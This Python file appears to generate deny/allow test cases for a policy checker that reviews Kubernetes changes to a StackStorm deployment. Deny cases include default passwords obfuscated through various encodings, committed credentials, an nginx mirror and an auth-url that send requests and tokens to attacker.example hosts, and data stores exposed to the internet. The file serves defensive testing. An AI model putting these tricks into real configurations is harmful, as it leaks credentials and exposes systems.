# Families B: secrets, exposure, selectors, singletons, PDB rounding, store runtime, resources, env/argo, kustomize, malformed.
import base64 as _b64, hashlib as _hl

def client_init(script, vols=None, mounts=None):
    """An extra init container on st2client writing the st2 CLI config (same image)."""
    c = {'name': 'red19-cli-config', 'image': 'stackstorm/st2actionrunner:3.8.1',
         'command': ['bash', '-ec', script], 'securityContext': HARD_SC,
         'resources': {'requests': {'cpu': '10m', 'memory': '32Mi'}, 'limits': {'cpu': '100m', 'memory': '64Mi'}},
         'volumeMounts': [{'name': 'st2client-config-vol', 'mountPath': '/root/.st2'}] + (mounts or [])}
    pf = {'initContainers': [c]}
    if vols:
        pf['volumes'] = vols
    return podspec('Deployment', 'st2client', pf)

def secret(name, data=None, string=None, typ='Opaque'):
    s = {'apiVersion': 'v1', 'kind': 'Secret', 'metadata': {'name': name}, 'type': typ}
    if data:
        s['data'] = data
    if string:
        s['stringData'] = string
    return s

CREDS_VOL = [{'name': 'red19-creds', 'secret': {'secretName': 'red19-creds'}}]
CREDS_MNT = [{'name': 'red19-creds', 'mountPath': '/creds', 'readOnly': True}]
CLI = "printf '[credentials]\\nusername = st2admin\\npassword = %%s\\n' \"$(%s)\" > /root/.st2/config"

F = 'F06-secret-encodings'
def enc(cid, reason, pipeline, data=None, string=None, base='prod'):
    files = {}
    res = []
    vols = mnts = None
    if data or string:
        files['creds.yaml'] = secret('red19-creds', data=data, string=string)
        res = ['creds.yaml']
        vols, mnts = CREDS_VOL, CREDS_MNT
    add(cid, 'deny', F, reason, K(base, patches=[client_init(CLI % pipeline, vols, mnts)], resources=res), files=files)

enc('f06-base32-st2pw', 'Ch@ngeMe (stackstorm-ha.md §2.1 secrets.st2.password) as base32, decoded by base32 -d into the st2 CLI login',
    'echo INUEA3THMVGWK=== | base32 -d')
enc('f06-base32-reversed', 'Ch@ngeMe base32 reversed, rev | base32 -d (stackstorm-ha.md §2.1)',
    'echo ===KWGVMHT3AEUNI | rev | base32 -d')
enc('f06-utf16-file', 'Ch@ngeMe stored UTF-16LE in a Secret file, iconv to UTF-8 (stackstorm-ha.md §2.1)',
    'iconv -f UTF-16LE -t UTF-8 /creds/pw16', data={'pw16': 'QwBoAEAAbgBnAGUATQBlAA=='})
enc('f06-utf16-mongo-b64', 'MongoDB default XeL5Rxwj7F0Wt43tFZVTN7H8Sg5XDHmK UTF-16LE base64 in a script (stackstorm-ha.md §2.2)',
    'echo WABlAEwANQBSAHgAdwBqADcARgAwAFcAdAA0ADMAdABGAFoAVgBUAE4ANwBIADgAUwBnADUAWABEAEgAbQBLAA== | base64 -d | iconv -f UTF-16LE -t UTF-8')
enc('f06-lz4-rabbit', 'RabbitMQ default 9jS+w1u07NbHtZke1m+jW4Cj in an LZ4 frame in a Secret, lz4 -dc (stackstorm-ha.md §2.1)',
    'lz4 -dc /creds/rabbit.lz4', data={'rabbit.lz4': 'BCJNGEBAwBgAAIA5alMrdzF1MDdOYkh0WmtlMW0ralc0Q2oAAAAA'})
enc('f06-zip-cookie', 'Erlang cookie default 8MrqQdCQ6AQ8U3MacSubHE5RqkSfvNaRHzvxuFcG deflated in a zip member, unzip -p (stackstorm-ha.md §2.2)',
    'unzip -p /creds/c.zip cookie', data={'c.zip': 'UEsDBBQAAAAIAI6Nh11zr6taKgAAACgAAAAGAAAAY29va2lls/AtKgxMcQ40cwy0CDX2TUwOLk3ycDUNKswOTivzSwzyqCqrKHVLdgcAUEsBAhQDFAAAAAgAjo2HXXOvq1oqAAAAKAAAAAYAAAAAAAAAAAAAAIABAAAAAGNvb2tpZVBLBQYAAAAAAQABADQAAABOAAAAAAA='})
enc('f06-raw-deflate-mongo', 'MongoDB default password as raw deflate (zlib wbits -15) base64, python3 zlib.decompress (stackstorm-ha.md §2.2)',
    "echo i0j1MQ2qKM8ydzMILzExLnGLCgvxM/ewCE43jXDxyPUGAA== | base64 -d | python3 -c 'import sys,zlib;sys.stdout.write(zlib.decompress(sys.stdin.buffer.read(),-15).decode())'")
enc('f06-openssl-aes', 'Ch@ngeMe AES-256-CBC encrypted with the passphrase written in the same script (openssl enc -d -pbkdf2 -pass pass:st2k8s) (stackstorm-ha.md §2.1)',
    'echo U2FsdGVkX1+86k5WWMtc3Rzn+2yIs4ARtGgnV3FYwQ4= | openssl enc -d -aes-256-cbc -pbkdf2 -pass pass:st2k8s -base64 -A')
enc('f06-ansi-c-hex', "Ch@ngeMe as a bash ANSI-C string $'\\x43\\x68\\x40\\x6e\\x67\\x65\\x4d\\x65' (stackstorm-ha.md §2.1)",
    "printf %s $'\\x43\\x68\\x40\\x6e\\x67\\x65\\x4d\\x65'")
enc('f06-b64-newlines-secret', 'Ch@ngeMe in Secret data base64 split by a newline: the API server decodes it (Go encoding/base64 skips \\r\\n) (stackstorm-ha.md §2.1)',
    'cat /creds/password', data={'password': 'Q2hAbm\ndlTWU='})
enc('f06-python-bytes-list', 'Ch@ngeMe as python bytes([67,104,64,110,103,101,77,101]) (stackstorm-ha.md §2.1)',
    "python3 -c 'import sys;sys.stdout.write(bytes([67,104,64,110,103,101,77,101]).decode())'")
enc('f06-staging-b32', 'Ch@ngeMe base32 in staging (stackstorm-ha.md §2.1)', 'echo INUEA3THMVGWK=== | base32 -d', base='staging')
enc('f06-gzip-b64-secret', 'Ch@ngeMe gzip+base64 in a Secret file (stackstorm-ha.md §2.1)', 'base64 -d /creds/pw.gz.b64 | gunzip',
    string={'pw.gz.b64': 'H4sIAAAAAAACA3POcMhLT/VNBQBLudHDCAAAAA=='})
enc('f06-b32-cookie-secret', 'Erlang cookie default base32 in a Secret (stackstorm-ha.md §2.2)', 'base32 -d /creds/cookie.b32',
    string={'cookie.b32': 'HBGXE4KRMRBVCNSBKE4FKM2NMFRVG5LCJBCTKUTRNNJWM5SOMFJEQ6TWPB2UMY2H'})

# RabbitMQ definitions user whose password_hash verifies the chart default.
def rmq_def_user(hash_):
    s = DATA['rmq_init'].replace('"users": [{"name": "admin", "password": "${pass}", "tags": "administrator"}],',
        '"users": [{"name": "admin", "password": "${pass}", "tags": "administrator"}, {"name": "monitor", "password_hash": "%s", "hashing_algorithm": "rabbit_password_hashing_sha256", "tags": "administrator"}],' % hash_)
    s = s.replace('"permissions": [{"user": "admin", "vhost": "/", "configure": ".*", "write": ".*", "read": ".*"}],',
        '"permissions": [{"user": "admin", "vhost": "/", "configure": ".*", "write": ".*", "read": ".*"}, {"user": "monitor", "vhost": "/", "configure": ".*", "write": ".*", "read": ".*"}],')
    assert 'monitor' in s
    return jp('StatefulSet', 'rabbitmq', [{'op': 'replace', 'path': '/spec/template/spec/initContainers/0/command/2', 'value': s}])
add('f06-rmq-password-hash-default', 'deny', F,
    'RabbitMQ definitions user "monitor" (administrator) whose rabbit_password_hashing_sha256 password_hash verifies the chart default 9jS+w1u07NbHtZke1m+jW4Cj (RabbitMQ passwords docs: hash = base64(salt + sha256(salt + password)); stackstorm-ha.md §2.1)',
    K(patches=[rmq_def_user('obLD1Pj8a4omhtgoQUj0fkiXcQ0GFCTWBD0OS83SsUP3c8Af')]))
add('f06-ingress-basic-auth-sha1', 'deny', F,
    'ingress-nginx basic-auth htpasswd st2admin:{SHA} of Ch@ngeMe guarding st2web: the edge accepts the chart published login (ingress-nginx basic auth docs; stackstorm-ha.md §2.1)',
    K(patches=[jp('Ingress', 'st2web', [{'op': 'add', 'path': '/metadata/annotations/nginx.ingress.kubernetes.io~1auth-type', 'value': 'basic'},
                                        {'op': 'add', 'path': '/metadata/annotations/nginx.ingress.kubernetes.io~1auth-secret', 'value': 'st2web-basic-auth'}], group='networking.k8s.io')],
      resources=['auth.yaml']),
    files={'auth.yaml': secret('st2web-basic-auth', string={'auth': 'st2admin:{SHA}hNDPBN5LIlHhoHC/cA2TxDWFe/w=\n'})})
add('f06-replacement-join', 'deny', F, 'kustomize replacements copy the chart RabbitMQ password from a generated ConfigMap into the rabbitmq env (stackstorm-ha.md §2.1)',
    K(patches=[ctr('StatefulSet', 'rabbitmq', 'rabbitmq', {'env': [{'name': 'RABBITMQ_DEFAULT_PASS', 'value': 'PLACEHOLDER', 'valueFrom': None}]})],
      extra={'configMapGenerator': [{'name': 'red19-vals', 'literals': ['p=9jS+w1u07NbHtZke1m+jW4Cj']}],
             'replacements': [{'source': {'kind': 'ConfigMap', 'name': 'red19-vals', 'fieldPath': 'data.p'},
                               'targets': [{'select': {'kind': 'StatefulSet', 'name': 'rabbitmq'},
                                            'fieldPaths': ['spec.template.spec.containers.[name=rabbitmq].env.[name=RABBITMQ_DEFAULT_PASS].value']}]}]}))
# planted committed credentials
PL = ['R19planted-mongo-7Qx2', 'R19planted-st2pw-K4m9', 'R19planted-rmq-Zp81']
add('f06-plant-mongo-secret', 'deny', F, 'production MongoDB password committed in plain text in a Secret read by a pod (a known secret: it is in git; README ST2-SEC-013 committed production credential)',
    K(patches=[client_init('printf x >/dev/null', CREDS_VOL, CREDS_MNT),
               ctr('Deployment', 'st2client', 'st2client', {'env': [{'name': 'MONGO_PASSWORD', 'valueFrom': {'secretKeyRef': {'name': 'red19-creds', 'key': 'mongodbPassword'}}}]})],
      resources=['creds.yaml']),
    files={'creds.yaml': secret('red19-creds', string={'mongodbPassword': PL[0]})})
PLANTED.append(('f06-plant-mongo-secret', PL[0]))
add('f06-plant-st2-password-env', 'deny', F, 'st2admin password committed as a literal env ST2_AUTH_PASSWORD on st2client (known secret in git; ST2-SEC-013)',
    K(patches=[ctr('Deployment', 'st2client', 'st2client', {'env': [{'name': 'ST2_AUTH_PASSWORD', 'value': PL[1]}]})]))
PLANTED.append(('f06-plant-st2-password-env', PL[1]))
add('f06-plant-rmq-default-pass', 'deny', F, 'RabbitMQ admin password committed as literal RABBITMQ_DEFAULT_PASS value (known secret in git; ST2-SEC-013)',
    K(patches=[ctr('StatefulSet', 'rabbitmq', 'rabbitmq', {'env': [{'name': 'RABBITMQ_DEFAULT_PASS', 'value': PL[2], 'valueFrom': None}]})]))
PLANTED.append(('f06-plant-rmq-default-pass', PL[2]))
# safe look-alikes
def enc_safe(cid, reason, pipeline, data=None, string=None):
    files = {}; res = []; vols = mnts = None
    if data or string:
        files['creds.yaml'] = secret('red19-creds', data=data, string=string); res = ['creds.yaml']; vols, mnts = CREDS_VOL, CREDS_MNT
    add(cid, 'allow', F, reason, K(patches=[client_init(CLI % pipeline, vols, mnts)], resources=res), files=files)
enc_safe('f06s-cli-from-st2-auth', 'st2 CLI config filled from the st2-auth Secret at run time (no literal)', 'cat /creds/password')
CASES[-1]['kust']['patches'] = [client_init(CLI % 'cat /creds/password', [{'name': 'red19-creds', 'secret': {'secretName': 'st2-auth'}}], CREDS_MNT)]
enc_safe('f06s-base32-other', 'base32 of a non-default, non-credential value (a pack name) printed into a file', 'echo NVXW4ZLUN5ZGS3THEBYGCY3L | base32 -d')
add('f06s-rmq-password-hash-other', 'allow', F, 'definitions user with a password_hash of a non-default password (hash only; RabbitMQ definitions export format)',
    K(patches=[rmq_def_user('obLD1NBqyxdvvs4yz9BLtJOhPwPYY841dJmRcQi0eG53XLqy')]))
add('f06s-ingress-basic-auth-ext', 'allow', F, 'ingress basic auth with its htpasswd Secret filled by an ExternalSecret from the production store',
    K(patches=[jp('Ingress', 'st2web', [{'op': 'add', 'path': '/metadata/annotations/nginx.ingress.kubernetes.io~1auth-type', 'value': 'basic'},
                                        {'op': 'add', 'path': '/metadata/annotations/nginx.ingress.kubernetes.io~1auth-secret', 'value': 'st2web-basic-auth'}], group='networking.k8s.io')],
      resources=['auth.yaml']),
    files={'auth.yaml': {'apiVersion': 'external-secrets.io/v1', 'kind': 'ExternalSecret', 'metadata': {'name': 'st2web-basic-auth'},
                         'spec': {'refreshInterval': '1h', 'secretStoreRef': {'kind': 'ClusterSecretStore', 'name': 'st2-production'},
                                  'target': {'name': 'st2web-basic-auth', 'creationPolicy': 'Owner'},
                                  'data': [{'secretKey': 'auth', 'remoteRef': {'key': 'stackstorm/st2web-basic-auth', 'property': 'htpasswd'}}]}}})
add('f06s-generator-unread-token', 'allow', F, 'a generated webhook token Secret that no pod reads (trust model: unread values are not credentials)',
    K(extra={'secretGenerator': [{'name': 'red19-webhook', 'literals': ['token=q8Zr4LmV2nXw9TtY3pKc']}]}))

# ---------------- F07 exposure through the edge ----------------
F = 'F07-exposure-edge'
def ing_ann(cid, exp, reason, anns, extra_ops=None, res=None, files=None):
    ops = [{'op': 'add', 'path': '/metadata/annotations/' + k.replace('/', '~1'), 'value': v} for k, v in anns.items()] + (extra_ops or [])
    add(cid, exp, F, reason, K(patches=[jp('Ingress', 'st2web', ops, group='networking.k8s.io')], resources=res), files=files)
ing_ann('f07-server-snippet-rmq-mgmt', 'deny', 'server-snippet location /mq/ proxy_pass to rabbitmq:15672: RabbitMQ management UI on the public st2 host (ingress-nginx server-snippet docs; stackstorm-ha.md §1 15672 http)',
        {'nginx.ingress.kubernetes.io/server-snippet': 'location /mq/ {\n  proxy_pass http://rabbitmq.st2-prod.svc.cluster.local:15672/;\n}\n'})
ing_ann('f07-server-snippet-etcd', 'deny', 'server-snippet location /v2/ proxy_pass to etcd:2379: unauthenticated etcd v2 keys API on the internet (etcd v2 API has no auth by default; stackstorm-ha.md §10 exposure)',
        {'nginx.ingress.kubernetes.io/server-snippet': 'location /v2/ { proxy_pass http://etcd.st2-prod.svc:2379; }'})
ing_ann('f07-config-snippet-mirror', 'deny', 'configuration-snippet mirror /m with proxy_pass to an outside host: every st2 request, X-Auth-Token and login included, copied out (nginx ngx_http_mirror_module)',
        {'nginx.ingress.kubernetes.io/configuration-snippet': 'mirror /m;\n', 'nginx.ingress.kubernetes.io/server-snippet': 'location = /m { internal; proxy_pass https://collector.attacker.example$request_uri; }'})
ing_ann('f07-auth-url-external', 'deny', 'auth-url to an outside host: ingress-nginx sends each request headers (X-Auth-Token, cookies) to it (ingress-nginx external auth docs)',
        {'nginx.ingress.kubernetes.io/auth-url': 'https://auth.attacker.example/check'})
ing_ann('f07-default-backend-rmq', 'deny', 'Ingress spec.defaultBackend rabbitmq:15672: every request not matching a rule gets the RabbitMQ management UI (k8s Ingress docs defaultBackend)', {},
        extra_ops=[{'op': 'add', 'path': '/spec/defaultBackend', 'value': {'service': {'name': 'rabbitmq', 'port': {'number': 15672}}}}])
ing_ann('f07-path-etcd', 'deny', 'Ingress path /v2 to etcd:2379: coordination store on the internet (stackstorm-ha.md §10)', {},
        extra_ops=[{'op': 'add', 'path': '/spec/rules/0/http/paths/-', 'value': {'path': '/v2', 'pathType': 'Prefix', 'backend': {'service': {'name': 'etcd', 'port': {'number': 2379}}}}}])
ing_ann('f07-tls-off', 'deny', 'TLS removed and ssl-redirect false: st2 logins over plain HTTP (stackstorm-ha.md §4 exposure)',
        {'nginx.ingress.kubernetes.io/ssl-redirect': 'false'}, extra_ops=[{'op': 'remove', 'path': '/spec/tls'}])
ing_ann('f07-stream-snippet-mongo', 'deny', 'ingress-nginx stream-snippet (TCP) server listening 27017 proxying to mongodb: store on the controller public IP (ingress-nginx stream-snippet docs)',
        {'nginx.ingress.kubernetes.io/stream-snippet': 'server { listen 27017; proxy_pass mongodb.st2-prod.svc.cluster.local:27017; }'})
add('f07-canary-rmq', 'deny', F, 'second Ingress canary weight 100 for st2.example.com to rabbitmq:15672: all public traffic to the management UI (ingress-nginx canary docs)',
    K(resources=['canary.yaml']),
    files={'canary.yaml': {'apiVersion': 'networking.k8s.io/v1', 'kind': 'Ingress', 'metadata': {'name': 'st2web-canary', 'annotations': {
        'nginx.ingress.kubernetes.io/canary': 'true', 'nginx.ingress.kubernetes.io/canary-weight': '100'}},
        'spec': {'ingressClassName': 'nginx', 'tls': [{'hosts': ['st2.example.com'], 'secretName': 'st2web-ingress-tls'}],
                 'rules': [{'host': 'st2.example.com', 'http': {'paths': [{'path': '/', 'pathType': 'Prefix', 'backend': {'service': {'name': 'rabbitmq', 'port': {'number': 15672}}}}]}}]}}})
def st2web_lb(cid, exp, reason, ann=None, ranges=None, res=None, files=None):
    ops = [{'op': 'replace', 'path': '/spec/type', 'value': 'LoadBalancer'}]
    if ranges is not None:
        ops.append({'op': 'add', 'path': '/spec/loadBalancerSourceRanges', 'value': ranges})
    for k, v in (ann or {}).items():
        ops.append({'op': 'add', 'path': '/metadata/annotations/' + k.replace('/', '~1'), 'value': v})
    add(cid, exp, F, reason, K(patches=[jp('Service', 'st2web', ops)], resources=res), files=files)
st2web_lb('f07-lb-azure-service-tag', 'deny', 'st2web LoadBalancer restricted to 10.0.0.0/8 but azure-allowed-service-tags: Internet adds an allow-from-Internet NSG rule (cloud-provider-azure service annotations docs)',
          ann={'service.beta.kubernetes.io/azure-allowed-service-tags': 'Internet'}, ranges=['10.0.0.0/8'])
st2web_lb('f07-lb-annotation-open', 'deny', 'st2web LoadBalancer with source-ranges annotation 0.0.0.0/0 (k8s docs: service.beta.kubernetes.io/load-balancer-source-ranges when spec field empty)',
          ann={'service.beta.kubernetes.io/load-balancer-source-ranges': '0.0.0.0/0'})
st2web_lb('f07-lb-open', 'deny', 'st2web on an unrestricted LoadBalancer in prod (stackstorm-ha.md §4; README ST2-EXP-007)')
st2web_lb('f07-lb-two-halves', 'deny', 'st2web LoadBalancer open through 0.0.0.0/1 + 128.0.0.0/1 (= the internet)', ranges=['0.0.0.0/1', '128.0.0.0/1'])
st2web_lb('f07-lb-ipv6-open', 'deny', 'st2web LoadBalancer with ::/0 source range on a dual-stack service (k8s dual-stack docs)', ranges=['10.0.0.0/8', '::/0'])
st2web_lb('f07s-lb-private', 'allow', 'st2web LoadBalancer restricted to 10.0.0.0/8 (README: a restricted LoadBalancer is not public)', ranges=['10.0.0.0/8'])
st2web_lb('f07s-lb-aws-internal', 'allow', 'st2web internal NLB (aws-load-balancer-scheme internal) restricted to 10/8',
          ann={'service.beta.kubernetes.io/aws-load-balancer-scheme': 'internal', 'service.beta.kubernetes.io/aws-load-balancer-type': 'external'}, ranges=['10.0.0.0/8'])
ing_ann('f07s-server-snippet-headers', 'allow', 'server-snippet adding only security headers', {'nginx.ingress.kubernetes.io/server-snippet': 'add_header X-Frame-Options DENY always;\n'})
ing_ann('f07s-whitelist-private', 'allow', 'whitelist-source-range 10.0.0.0/8: narrows exposure', {'nginx.ingress.kubernetes.io/whitelist-source-range': '10.0.0.0/8'})
ing_ann('f07s-proxy-body-size', 'allow', 'proxy-body-size 20m for pack uploads', {'nginx.ingress.kubernetes.io/proxy-body-size': '20m'})
ing_ann('f07s-second-host', 'allow', 'a second TLS host for st2web', {}, extra_ops=[
    {'op': 'add', 'path': '/spec/rules/-', 'value': {'host': 'stackstorm.example.com', 'http': {'paths': [{'path': '/', 'pathType': 'Prefix', 'backend': {'service': {'name': 'st2web', 'port': {'number': 443}}}}]}}},
    {'op': 'add', 'path': '/spec/tls/0/hosts/-', 'value': 'stackstorm.example.com'}])
ing_ann('f07s-auth-url-incluster', 'allow', 'auth-url to an in-cluster oauth2-proxy in st2-prod (SSO in front of st2web)',
        {'nginx.ingress.kubernetes.io/auth-url': 'http://oauth2-proxy.st2-prod.svc.cluster.local:4180/oauth2/auth',
         'nginx.ingress.kubernetes.io/auth-signin': 'https://st2.example.com/oauth2/start'})

# ---------------- F08 Services selecting store pods by controller-added labels ----------------
F = 'F08-service-selectors'
def svc_case(cid, exp, reason, s, ing=None):
    objs = [s] + ([ing] if ing else [])
    add(cid, exp, F, reason, K(resources=['svc.yaml']), files={'svc.yaml': objs})
svc_case('f08-lb-podname-mongo', 'deny', 'LoadBalancer selecting statefulset.kubernetes.io/pod-name: mongodb-0 port 27017: MongoDB on the internet (k8s StatefulSet docs: controller adds the pod-name label)',
         svc('red19-m0', {'statefulset.kubernetes.io/pod-name': 'mongodb-0'}, [{'port': 27017, 'targetPort': 27017}], 'LoadBalancer'))
svc_case('f08-lb-podindex-etcd', 'deny', 'LoadBalancer selecting apps.kubernetes.io/pod-index "0" port 2379: etcd-0 (and every StatefulSet pod 0) on the internet (k8s 1.28+ pod-index label docs)',
         svc('red19-p0', {'apps.kubernetes.io/pod-index': '0'}, [{'port': 2379, 'targetPort': 2379}], 'LoadBalancer'))
svc_case('f08-lb-release-only-mongo', 'deny', 'LoadBalancer selecting release: st2 (every pod) port 27017: reaches MongoDB (k8s Service selector semantics)',
         svc('red19-rel', {'release': 'st2'}, [{'port': 27017, 'targetPort': 27017}], 'LoadBalancer'))
svc_case('f08-nodeport-podname-etcd', 'deny', 'NodePort selecting etcd-1 by pod-name label: etcd v2 (no auth) on every node (stackstorm-ha.md §10)',
         svc('red19-e1', {'statefulset.kubernetes.io/pod-name': 'etcd-1'}, [{'port': 2379, 'targetPort': 2379}], 'NodePort'))
svc_case('f08-lb-podname-rmq-mgmt', 'deny', 'LoadBalancer selecting rabbitmq-1 by pod-name port 15672: management UI public (stackstorm-ha.md §1)',
         svc('red19-r1', {'statefulset.kubernetes.io/pod-name': 'rabbitmq-1'}, [{'port': 15672, 'targetPort': 15672}], 'LoadBalancer'))
svc_case('f08-ingress-podname-rmq', 'deny', 'ClusterIP Service selecting rabbitmq-0 by pod-name + public Ingress to it: management UI on the internet',
         svc('red19-r0', {'statefulset.kubernetes.io/pod-name': 'rabbitmq-0'}, [{'port': 15672, 'targetPort': 15672}]),
         {'apiVersion': 'networking.k8s.io/v1', 'kind': 'Ingress', 'metadata': {'name': 'red19-r0'},
          'spec': {'ingressClassName': 'nginx', 'tls': [{'hosts': ['mq.example.com'], 'secretName': 'mq-tls'}],
                   'rules': [{'host': 'mq.example.com', 'http': {'paths': [{'path': '/', 'pathType': 'Prefix', 'backend': {'service': {'name': 'red19-r0', 'port': {'number': 15672}}}}]}}]}})
svc_case('f08-ingress-podindex-etcd', 'deny', 'ClusterIP Service selecting pod-index 0 port 2379 + public Ingress: etcd keys API on the internet',
         svc('red19-i0', {'apps.kubernetes.io/pod-index': '0'}, [{'port': 2379, 'targetPort': 2379}]),
         {'apiVersion': 'networking.k8s.io/v1', 'kind': 'Ingress', 'metadata': {'name': 'red19-i0'},
          'spec': {'ingressClassName': 'nginx', 'tls': [{'hosts': ['e.example.com'], 'secretName': 'e-tls'}],
                   'rules': [{'host': 'e.example.com', 'http': {'paths': [{'path': '/', 'pathType': 'Prefix', 'backend': {'service': {'name': 'red19-i0', 'port': {'number': 2379}}}}]}}]}})
svc_case('f08-lb-tier-coordination', 'deny', 'LoadBalancer selecting tier: coordination (etcd pods) port 2379 (stackstorm-ha.md §1 etcd labels)',
         svc('red19-tc', {'tier': 'coordination'}, [{'port': 2379, 'targetPort': 2379}], 'LoadBalancer'))
svc_case('f08s-clusterip-podname-mongo', 'allow', 'ClusterIP Service selecting mongodb-0 for an in-namespace backup tool: not exposed',
         svc('red19-m0', {'statefulset.kubernetes.io/pod-name': 'mongodb-0'}, [{'port': 27017, 'targetPort': 27017}]))
svc_case('f08s-lb-private-st2web-podname', 'allow', 'internal LoadBalancer restricted to 10/8 selecting st2web pods only',
         svc('red19-web', {'app': 'st2web', 'release': 'st2'}, [{'port': 443, 'targetPort': 443}], 'LoadBalancer', extra={'loadBalancerSourceRanges': ['10.0.0.0/8']}))
svc_case('f08s-headless-metrics', 'allow', 'headless ClusterIP Service for rabbitmq prometheus port 15692 (in-cluster scrape)',
         svc('red19-rmq-metrics', {'app': 'rabbitmq', 'release': 'st2'}, [{'port': 15692, 'targetPort': 15692}], extra={'clusterIP': 'None'}))

# ---------------- F09 singletons and replica floors ----------------
F = 'F09-singletons-replicas'
add('f09-timers-maxsurge-1pct', 'deny', F, 'st2timersengine RollingUpdate maxSurge 1%: percentages of maxSurge round up, so a second timers pod runs during every rollout (k8s Deployment docs maxSurge "rounded up"; stackstorm-ha.md §3 exactly one)',
    K(patches=[spec_only('Deployment', 'st2timersengine', {'strategy': {'type': 'RollingUpdate', 'rollingUpdate': {'maxSurge': '1%', 'maxUnavailable': 0}}})]))
add('f09-timers-rolling-default', 'deny', F, 'st2timersengine RollingUpdate with defaults (maxSurge 25% -> 1): overlap of two timers (k8s docs; stackstorm-ha.md §3)',
    K(patches=[jp('Deployment', 'st2timersengine', [{'op': 'replace', 'path': '/spec/strategy', 'value': {'type': 'RollingUpdate'}}])]))
add('f09-timers-hpa', 'deny', F, 'HPA on st2timersengine minReplicas 2 (stackstorm-ha.md §3)', K(resources=['hpa.yaml']),
    files={'hpa.yaml': {'apiVersion': 'autoscaling/v2', 'kind': 'HorizontalPodAutoscaler', 'metadata': {'name': 'st2timersengine'},
                        'spec': {'scaleTargetRef': {'apiVersion': 'apps/v1', 'kind': 'Deployment', 'name': 'st2timersengine'}, 'minReplicas': 2, 'maxReplicas': 3,
                                 'metrics': [{'type': 'Resource', 'resource': {'name': 'cpu', 'target': {'type': 'Utilization', 'averageUtilization': 80}}}]}}})
add('f09-timers-rollout-workloadref', 'deny', F, 'Argo Rollout with workloadRef to st2timersengine: the Rollout runs its own pods while the Deployment keeps its replica (Argo Rollouts migrating docs: scaleDown default never) -> two timers',
    K(resources=['ro.yaml']),
    files={'ro.yaml': {'apiVersion': 'argoproj.io/v1alpha1', 'kind': 'Rollout', 'metadata': {'name': 'st2timersengine-ro'},
                       'spec': {'replicas': 1, 'selector': {'matchLabels': {'app': 'st2timersengine', 'release': 'st2'}},
                                'workloadRef': {'apiVersion': 'apps/v1', 'kind': 'Deployment', 'name': 'st2timersengine'},
                                'strategy': {'canary': {'steps': [{'setWeight': 50}, {'pause': {}}]}}}}})
add('f09-timers-second-deploy', 'deny', F, 'a second Deployment running /opt/stackstorm/st2/bin/st2timersengine (stackstorm-ha.md §3 exactly one)',
    K(resources=['d.yaml']), files={'d.yaml': st2_deploy('st2timersengine-b', 'st2timersengine')})
_cj_t = st2_deploy('x', 'st2timersengine')['spec']['template']
_cj_t['spec']['restartPolicy'] = 'Never'
add('f09-timers-cronjob', 'deny', F, 'CronJob every 5 minutes running st2timersengine for 10 minutes: overlapping timers (stackstorm-ha.md §3)',
    K(resources=['cj.yaml']),
    files={'cj.yaml': {'apiVersion': 'batch/v1', 'kind': 'CronJob', 'metadata': {'name': 'red19-timers'},
                       'spec': {'schedule': '*/5 * * * *', 'concurrencyPolicy': 'Allow', 'jobTemplate': {'spec': {'activeDeadlineSeconds': 600, 'template': _cj_t}}}}})
add('f09-sensor-second-deploy', 'deny', F, 'a second st2sensorcontainer Deployment running all sensors: every sensor twice (stackstorm-ha.md §3)',
    K(resources=['d.yaml']), files={'d.yaml': st2_deploy('st2sensorcontainer-b', 'st2sensorcontainer')})
add('f09-sensor-single-dup', 'deny', F, 'extra single-sensor-mode Deployment for linux.FileWatchSensor while the main container runs all sensors: that sensor twice (stackstorm-ha.md §3 v0.80.0 modes)',
    K(resources=['d.yaml']), files={'d.yaml': st2_deploy('st2sensorcontainer-fw', 'st2sensorcontainer', ['--single-sensor-mode', '--sensor-ref=linux.FileWatchSensor'])})
add('f09-st2api-1', 'deny', F, 'st2api at 1 replica in production: HA floor (stackstorm-ha.md §1 minimum 2)', K(extra={'replicas': [{'name': 'st2api', 'count': 1}]}))
add('f09-scheduler-0', 'deny', F, 'st2scheduler 0: executions stay requested (stackstorm-ha.md §12)', K(extra={'replicas': [{'name': 'st2scheduler', 'count': 0}]}))
add('f09-mongo-2', 'deny', F, 'MongoDB 2 members: no majority after one failure (stackstorm-ha.md §3 1 primary + 2 secondaries)', K(extra={'replicas': [{'name': 'mongodb', 'count': 2}]}))
add('f09-etcd-5-static', 'deny', F, 'etcd 5 replicas with --initial-cluster listing 3: etcd-3/4 not in the bootstrap cluster, crash-loop (etcd clustering docs static bootstrap)', K(extra={'replicas': [{'name': 'etcd', 'count': 5}]}))
add('f09-rmq-1', 'deny', F, 'RabbitMQ 1 node in production (stackstorm-ha.md §3: 3 nodes)', K(extra={'replicas': [{'name': 'rabbitmq', 'count': 1}]}))
add('f09-sensor-hpa-keda', 'deny', F, 'KEDA ScaledObject on st2sensorcontainer max 3 (stackstorm-ha.md §3 sensors hard-coded 1)', K(resources=['so.yaml']),
    files={'so.yaml': {'apiVersion': 'keda.sh/v1alpha1', 'kind': 'ScaledObject', 'metadata': {'name': 'sensors'},
                       'spec': {'scaleTargetRef': {'name': 'st2sensorcontainer'}, 'minReplicaCount': 1, 'maxReplicaCount': 3,
                                'triggers': [{'type': 'cpu', 'metricType': 'Utilization', 'metadata': {'value': '80'}}]}}})
add('f09s-timers-rolling-nosurge', 'allow', F, 'st2timersengine RollingUpdate maxSurge 0 maxUnavailable 1: never two pods (k8s Deployment docs)',
    K(patches=[spec_only('Deployment', 'st2timersengine', {'strategy': {'type': 'RollingUpdate', 'rollingUpdate': {'maxSurge': 0, 'maxUnavailable': 1}}})]))
add('f09s-timers-replicas-removed', 'allow', F, 'st2timersengine spec.replicas removed: the API server defaults it to 1 (k8s Deployment docs .spec.replicas default 1)',
    K(patches=[jp('Deployment', 'st2timersengine', [{'op': 'remove', 'path': '/spec/replicas'}])]))
add('f09s-gc-3', 'allow', F, 'st2garbagecollector 3 replicas: "will not do any harm" (stackstorm-ha.md §3)', K(extra={'replicas': [{'name': 'st2garbagecollector', 'count': 3}]}))
add('f09s-notifier-3', 'allow', F, 'st2notifier 3 with etcd coordination (stackstorm-ha.md §3)', K(extra={'replicas': [{'name': 'st2notifier', 'count': 3}]}))
add('f09s-runner-20', 'allow', F, 'st2actionrunner 20 (stackstorm-ha.md §3 scale with load)', K(extra={'replicas': [{'name': 'st2actionrunner', 'count': 20}]}))
add('f09s-st2web-2', 'allow', F, 'st2web 2 in prod: meets minimum 2 (stackstorm-ha.md §1)', K(extra={'replicas': [{'name': 'st2web', 'count': 2}]}))
